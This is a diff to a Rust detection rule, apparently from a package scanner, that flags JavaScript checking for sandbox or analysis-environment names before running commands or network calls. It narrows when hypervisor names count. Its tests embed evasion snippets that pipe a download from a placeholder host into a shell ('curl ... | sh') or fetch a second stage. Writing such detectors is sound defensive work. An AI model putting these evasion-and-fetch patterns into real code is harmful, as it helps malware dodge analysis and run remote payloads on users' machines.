@@ -27,7 +27,8 @@ A small hand-written file that:
 2. compares against names that only analysis environments have: at least two of `sandbox`,
    `malware`, `virus`, `analysis`, `cuckoo`, `any.run`, `joesandbox`, `vmware`, `virtualbox`,
    `vbox`, `qemu`, `honeypot`, `wdagutilityaccount`, … in its strings or in the
-   condition itself (a regular expression such as `/sandbox|malware/i.test(os.hostname())`);
+   condition itself (a regular expression such as `/sandbox|malware/i.test(os.hostname())`),
+   one of them about analysis rather than a hypervisor product;
 3. runs commands, evaluates code or talks to the network.
 
 High, medium confidence, with the obfuscation capability: it weighs with an install hook or a
@@ -43,8 +44,8 @@ network sink in the score. Comments do not count: only strings and code.
 
 ## Known false positives
 
-System-information libraries that report virtualisation (`vmware`, `virtualbox`) are large
-and read no sandbox names; a small CLI that prints whether it runs in a VM and also fetches
+System-information libraries that report virtualisation (`vmware`, `virtualbox`, `qemu`, next
+to the host name and uptime) name no analysis term and are not reported; a small CLI that prints whether it runs in a VM and also fetches
 something could be reported.
 "#,
 };
@@ -70,6 +71,9 @@ const ANALYSIS_TERMS: &[&str] = &[
     "honeypot",
     "wdagutilityaccount",
 ];
+
+/// Virtual machine products: evidence only next to an analysis term.
+const VM_TERMS: &[&str] = &["vmware", "virtualbox", "vbox", "qemu"];
 
 /// Calls that read the machine's identity or size.
 const PROBE_CALLS: &[&str] = &[
@@ -141,7 +145,11 @@ impl FileRule for SandboxEvasion {
             .iter()
             .filter(|t| !terms.iter().any(|other| other != *t && other.contains(**t)))
             .count();
-        if distinct < 2 && !terms.contains(&"wdagutilityaccount") {
+        // Hypervisor names are what system-information libraries report (`virtualbox`,
+        // `vmware`, `qemu`, next to the host name too): they count only next to a term about
+        // analysis itself.
+        let analysis = terms.iter().any(|t| !VM_TERMS.contains(t));
+        if !analysis || (distinct < 2 && !terms.contains(&"wdagutilityaccount")) {
             return;
         }
         let shown: Vec<String> = terms.iter().take(4).map(|t| format!("`{t}`")).collect();
@@ -175,10 +183,13 @@ mod tests {
 
     #[test]
     fn sandbox_names_checked_before_a_download_are_reported() {
+        // Hypervisor names against the host name alone are what systeminformation does.
+        let vm_only = "const names = ['vmware', 'virtualbox', 'qemu'];\nconst h = require('os').hostname().toLowerCase();\nif (!names.some((n) => h.includes(n))) require('https').get('https://x.example/p');";
+        assert!(run(vm_only).is_empty(), "{:#?}", run(vm_only));
         for source in [
             "const os = require('os');\nif (os.cpus().length > 2 && !/sandbox|analysis|malware/i.test(os.hostname())) {\n  require('child_process').exec('curl -s https://cdn.example/p.sh | sh');\n}",
             "const os = require('os');\nconst bad = ['WDAGUtilityAccount', 'Abby', 'hal9th'];\nif (!bad.includes(os.userInfo().username)) fetch('https://x.example/stage2');",
-            "const names = ['vmware', 'virtualbox', 'qemu'];\nconst h = process.env.COMPUTERNAME.toLowerCase();\nif (!names.some((n) => h.includes(n))) require('https').get('https://x.example/p');",
+            "const names = ['vmware', 'virtualbox', 'sandbox'];\nconst h = process.env.COMPUTERNAME.toLowerCase();\nif (!names.some((n) => h.includes(n))) require('https').get('https://x.example/p');",
         ] {
             let found = run(source);
             assert_eq!(found.len(), 1, "{source}: {found:#?}");
@@ -196,6 +207,8 @@ mod tests {
             "const os = require('os');\nconst frame = { sandbox: 'allow-scripts' };\nfetch('https://example.com/?cpus=' + os.cpus().length);",
             // Sandbox names without any command or request.
             "const os = require('os');\nmodule.exports = /sandbox|vmware/i.test(os.hostname());",
+            // A system-information library naming hypervisors next to memory and uptime.
+            "const os = require('os');\nconst { exec } = require('child_process');\nconst mem = os.totalmem();\nexec('dmidecode -t system', (e, out) => { const virtual = /vmware|virtualbox|qemu/i.test(out); cb({ mem, virtual, uptime: os.uptime() }); });",
         ] {
             assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
         }
